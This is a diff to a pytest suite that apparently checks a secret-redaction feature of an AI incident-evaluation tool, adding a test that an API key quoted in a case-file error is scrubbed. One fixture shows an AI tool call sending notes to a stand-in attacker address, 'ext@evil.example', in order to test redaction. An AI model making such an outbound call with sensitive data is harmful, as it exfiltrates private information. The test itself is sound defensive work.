@@ -70,7 +70,9 @@ def _sensitive_document() -> str:
 
 
 DOCUMENT = _sensitive_document()
-assert SPAN in DOCUMENT and len(SPAN) == 30 and 4096 <= len(DOCUMENT) < 4400
+assert SPAN in DOCUMENT
+assert len(SPAN) == 30
+assert 4096 <= len(DOCUMENT) < 4400
 
 CREDENTIAL_CANARIES = {
     "api-key-in-OPENAI_API_KEY": KEY,
@@ -240,6 +242,12 @@ def _run(command: list[str], folder: Path, env: dict[str, str]) -> subprocess.Co
 def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
     folder = tmp_path_factory.mktemp("secrets")
     write_case(folder, "incident_cases/cases.yaml", *CASES)
+    # A case file whose error quotes a value holding the key (a pasted log, say).
+    write_case(
+        folder,
+        "incident_cases/broken.yaml",
+        case_data("INC-BROKEN", category=f"Authorization: Bearer {KEY}"),
+    )
     (folder / "incident_cases" / "checks.py").write_text(CHECKS, encoding="utf-8")
     (folder / "pytest.ini").write_text(
         "[pytest]\n"
@@ -394,9 +402,9 @@ def test_a_variant_of_the_leaking_case_is_redacted_too(run: Run) -> None:
 def test_tool_call_arguments_are_redacted(run: Run) -> None:
     run.terminal.fnmatch_lines(
         [
-            glob(
-                f'  tool call: send_email({{"to": "ext@evil.example", "body": "notes: {PLACEHOLDER}"}})'
-            )
+            "  tool call: send_email("
+            + glob(f'{{"to": "ext@evil.example", "body": "notes: {PLACEHOLDER}"}}')
+            + ")"
         ]
     )
     [call] = run.item("::INC-TOOL")["tool_calls"]
@@ -538,10 +546,27 @@ def test_the_header_and_the_results_never_show_the_url_user_info(run: Run) -> No
     assert {r.headers["authorization"] for r in judge} == {f"Bearer {NAMED_KEY}"}
 
 
+def test_a_case_file_error_quoting_the_key_is_scrubbed(run: Run) -> None:
+    run.terminal.fnmatch_lines(
+        [
+            "*ERROR collecting incident_cases/broken.yaml*",
+            "incident_cases/broken.yaml:4: incident.category: 'Authorization: Bearer "
+            "[[]redacted: api key[]]' is not one of *",
+        ]
+    )
+    junit = ET.parse(run.folder / "junit.xml").getroot()
+    [case] = [c for c in junit.iter("testcase") if c.get("name") == "incident_cases.broken.yaml"]
+    [error] = case.iter("error")
+    assert "'Authorization: Bearer [redacted: api key]' is not one of" in (error.text or "")
+
+
 def test_the_step_summary_is_written_and_redacted(run: Run) -> None:
     summary = (run.folder / "step-summary.md").read_text(encoding="utf-8")
     assert summary.startswith("## incident-evals: BLOCK")
-    assert "`INC-LEAK`" in summary
+    assert (
+        f"- `INC-LEAK` (major, security)\n  - `no_leak`: leaked 30 characters of sensitive "
+        f"document '{DOCUMENT_ID}' in the output at char 13: \"\\[redacted: {DOCUMENT_ID}\\]\"…"
+    ) in summary
 
 
 def test_the_report_command_writes_markdown_and_html_without_secrets(run: Run) -> None:
